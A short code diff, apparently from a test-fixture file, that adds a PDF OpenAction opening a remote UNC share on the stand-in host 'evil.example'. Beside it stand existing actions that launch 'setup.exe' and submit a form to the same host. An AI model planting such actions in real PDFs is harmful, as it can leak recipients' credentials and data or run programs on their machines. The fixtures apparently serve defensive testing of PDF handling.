@@ -26,6 +26,10 @@ export const activeAdditions: Readonly<Record<string, PdfAddition>> = {
     const action = document.context.obj({ S: "Launch", F: PDFString.of("setup.exe") });
     document.catalog.set(PDFName.of("OpenAction"), document.context.register(action));
   },
+  "a file elsewhere to open": (document) => {
+    const action = document.context.obj({ S: "GoToR", F: PDFString.of("\\\\evil.example\\share\\page.pdf") });
+    document.catalog.set(PDFName.of("OpenAction"), document.context.register(action));
+  },
   "a form that sends itself": (document) => {
     document.context.register(
       document.context.obj({ S: "SubmitForm", F: PDFString.of("https://evil.example") }),
